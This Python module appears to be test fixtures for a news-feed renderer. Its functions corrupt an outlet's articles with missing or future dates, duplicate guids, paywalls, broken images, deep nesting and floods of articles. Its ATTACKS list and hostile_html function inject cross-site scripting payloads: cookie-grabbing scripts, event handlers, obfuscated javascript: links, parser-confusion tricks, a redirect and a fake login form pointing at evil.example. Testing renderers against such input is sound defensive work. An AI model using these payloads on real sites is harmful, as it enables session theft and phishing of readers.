"""Faults in what an outlet writes: its articles are changed before any format renders them."""

import re
from dataclasses import replace
from datetime import timedelta
from html import escape
from itertools import cycle, islice
from typing import Literal

from copydesk.newsroom.answers import Ask
from copydesk.newsroom.articles import Edition
from copydesk.newsroom.markup import to_plain

ATTACKS = (
    "<script>window.stolen = document.cookie</script>",
    '<img src="/nothing.png" onerror="window.stolen = 1">',
    '<a href="javascript:window.stolen=1">read on</a>',
    '<a href=" &#106;ava&#10;script:window.stolen=1">and on</a>',
    '<svg><script href="data:text/javascript,window.stolen=1"></script></svg>',
    '<svg onload="window.stolen=1"><animate onbegin="window.stolen=1" attributeName="x"></svg>',
    '<iframe srcdoc="&lt;script&gt;parent.stolen=1&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>stolen=1</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</p>',
    "<style>body{display:none}</style>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.stolen=1"></style>',
    '<noscript><p title="</noscript><img src=x onerror=window.stolen=1>"></noscript>',
    '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    "<!--[if IE]><script>window.stolen=1</script><![endif]-->",
)


def missing_dates(edition: Edition, _ask: Ask) -> Edition:
    """Articles carry no date at all."""
    return _each(edition, published_at=None, updated_at=None)


def future_dates(edition: Edition, _ask: Ask, *, days: int = 400) -> Edition:
    """Articles are dated some days ahead of now."""
    shift = timedelta(days=days)
    return replace(
        edition,
        articles=tuple(
            replace(
                article,
                published_at=article.published_at and article.published_at + shift,
                updated_at=article.updated_at and article.updated_at + shift,
            )
            for article in edition.articles
        ),
    )


def missing_guids(edition: Edition, _ask: Ask) -> Edition:
    """Articles carry no guid or id."""
    return _each(edition, guid="")


def duplicate_guids(edition: Edition, ask: Ask) -> Edition:
    """All articles carry the same guid."""
    return _each(edition, guid=f"tag:{ask.outlet}.example,2026:same")


def changing_guids(edition: Edition, ask: Ask) -> Edition:
    """Every fetch sees new guids for the same articles."""
    articles = (replace(each, guid=f"{each.guid}?{ask.turn}") for each in edition.articles)
    return replace(edition, articles=tuple(articles))


def missing_titles(edition: Edition, _ask: Ask) -> Edition:
    """Articles carry no title."""
    return _each(edition, title="")


def missing_links(edition: Edition, _ask: Ask) -> Edition:
    """Articles carry no link."""
    return _each(edition, has_link=False)


def edits(edition: Edition, ask: Ask, *, silent: bool = False) -> Edition:
    """The newest article changes at every fetch; silent: without a new date."""
    if not edition.articles:
        return edition
    newest = edition.articles[0]
    edited = replace(
        newest,
        title=f"{newest.title} (correction {ask.turn})",
        html=f"{newest.html}\n<p>Correction {ask.turn}: an earlier version was wrong.</p>",
        updated_at=newest.updated_at if silent else ask.now,
    )
    return replace(edition, articles=(edited, *edition.articles[1:]))


def paywall(edition: Edition, _ask: Ask, *, letters: int = 160) -> Edition:
    """Articles end after the first letters with an invitation to subscribe."""
    articles = []
    for article in edition.articles:
        stub = escape(to_plain(article.html)[:letters])
        wall = '<div class="paywall"><p>Subscribe to read on. Already a member? Log in.</p></div>'
        articles.append(replace(article, html=f"<p>{stub}…</p>{wall}"))
    return replace(edition, articles=tuple(articles))


def broken_images(
    edition: Edition, ask: Ask, *, kind: Literal["missing", "empty", "cut", "page"] = "missing"
) -> Edition:
    """Pictures are missing (404), empty, cut in half, or an HTML page named .png."""
    path = f"/{ask.outlet}/images/broken-{kind}.png"
    tag = f'<img src="{path}" alt="broken picture">'
    return replace(
        edition,
        articles=tuple(
            replace(article, image=path, html=tag + re.sub(r"<img\b[^>]*>", tag, article.html))
            for article in edition.articles
        ),
    )


def hostile_html(edition: Edition, _ask: Ask) -> Edition:
    """Titles and texts attack the reader: scripts, handlers, javascript: links, forms, frames."""
    attack = "\n".join(ATTACKS)
    return replace(
        edition,
        articles=tuple(
            replace(
                article,
                title=f"{article.title} <script>window.stolen = 1</script>",
                html=f"{article.html}\n{attack}",
            )
            for article in edition.articles
        ),
    )


def deep_html(edition: Edition, _ask: Ask, *, depth: int = 10_000) -> Edition:
    """The text of the newest article is nested in very many elements."""
    if not edition.articles:
        return edition
    newest = edition.articles[0]
    nested = replace(newest, html="<div>" * depth + newest.html + "</div>" * depth)
    return replace(edition, articles=(nested, *edition.articles[1:]))


def no_articles(edition: Edition, _ask: Ask) -> Edition:
    """The outlet lists nothing."""
    return replace(edition, articles=())


def many_articles(edition: Edition, _ask: Ask, *, count: int = 5000) -> Edition:
    """The outlet lists very many articles: its own, again and again under new guids."""
    copies = enumerate(islice(cycle(edition.articles), count))
    articles = (
        replace(each, guid=f"{each.guid}#{n}", slug=f"{each.slug}-{n}") for n, each in copies
    )
    return replace(edition, articles=tuple(articles))


def oldest_first(edition: Edition, _ask: Ask) -> Edition:
    """The outlet lists its oldest article first."""
    return replace(edition, articles=edition.articles[::-1])


def _each(edition: Edition, **changes: object) -> Edition:
    articles = tuple(replace(article, **changes) for article in edition.articles)  # type: ignore[arg-type]  # callers name fields of the record
    return replace(edition, articles=articles)
